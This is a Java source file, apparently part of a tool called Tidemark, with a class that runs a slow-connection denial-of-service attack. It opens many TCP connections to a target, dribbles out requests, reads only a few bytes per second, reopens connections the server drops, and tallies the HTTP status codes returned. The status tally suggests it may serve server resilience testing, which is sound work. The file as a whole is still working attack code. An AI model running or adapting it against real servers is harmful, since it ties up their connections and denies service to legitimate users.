package io.tidemark.hostile;

import java.io.IOException;
import java.net.InetSocketAddress;
import java.net.StandardSocketOptions;
import java.nio.ByteBuffer;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import org.jspecify.annotations.Nullable;

/**
 * Connections of one kind, all served by one thread that visits each of them once a second: it
 * sends the rest of the request, and reads a little. It reopens a connection that the server closed
 * at a later visit. Not thread-safe.
 */
final class SlowConnections {
    /** So that opening them does not take the whole of a visit. */
    private static final int OPENED_PER_VISIT = 1_000;

    private static final int RECEIVE_BUFFER = 4 << 10;

    private final Attack attack;
    private final InetSocketAddress source;
    private final InetSocketAddress target;
    private final Tally tally;
    private final List<Slot> slots = new ArrayList<>();
    private final ByteBuffer buffer = ByteBuffer.allocateDirect(64 << 10);

    SlowConnections(
            Attack attack,
            int count,
            InetSocketAddress source,
            InetSocketAddress target,
            Tally tally) {
        this.attack = attack;
        this.source = source;
        this.target = target;
        this.tally = tally;
        String host = target.getHostString() + ":" + target.getPort();
        for (int i = 0; i < count; i++) {
            slots.add(new Slot(attack.request(i, host)));
        }
    }

    /** A slot for one connection, and the connection while there is one. */
    private static final class Slot {
        private final byte[] request;
        private @Nullable SocketChannel channel;
        private int sent;
        private boolean answered;

        Slot(byte[] request) {
            this.request = request;
        }
    }

    void visit() {
        int opened = 0;
        int open = 0;
        for (Slot slot : slots) {
            try {
                if (slot.channel == null && opened++ < OPENED_PER_VISIT) {
                    open(slot);
                }
                if (slot.channel != null) {
                    move(slot, slot.channel);
                    open++;
                }
            } catch (IOException e) {
                tally.count(attack, "failed");
                close(slot);
            }
        }
        tally.open(attack, open);
    }

    private void open(Slot slot) throws IOException {
        SocketChannel channel = SocketChannel.open();
        slot.channel = channel;
        slot.sent = 0;
        slot.answered = false;
        channel.configureBlocking(false);
        channel.setOption(StandardSocketOptions.SO_RCVBUF, RECEIVE_BUFFER);
        channel.bind(source);
        channel.connect(target);
        tally.count(attack, "opened");
    }

    private void move(Slot slot, SocketChannel channel) throws IOException {
        if (channel.isConnectionPending() && !channel.finishConnect()) {
            return;
        }
        if (slot.sent < slot.request.length) {
            slot.sent +=
                    channel.write(
                            ByteBuffer.wrap(
                                    slot.request, slot.sent, slot.request.length - slot.sent));
        }
        buffer.clear().limit(Math.max(1, attack.bytesPerSecond()));
        int read = channel.read(buffer);
        if (read < 0) {
            tally.count(attack, "ended by the server");
            close(slot);
        } else if (read > 0 && !slot.answered) {
            slot.answered = true;
            tally.count(attack, status(buffer.flip()));
        }
    }

    /** The status code in the first line of an answer. */
    private static String status(ByteBuffer answer) {
        String[] line = StandardCharsets.ISO_8859_1.decode(answer).toString().split(" ", 3);
        return line.length > 1 ? line[1] : "no HTTP";
    }

    private static void close(Slot slot) {
        SocketChannel channel = slot.channel;
        slot.channel = null;
        if (channel != null) {
            try {
                channel.close();
            } catch (IOException _) {
                // The connection is closed all the same.
            }
        }
    }
}
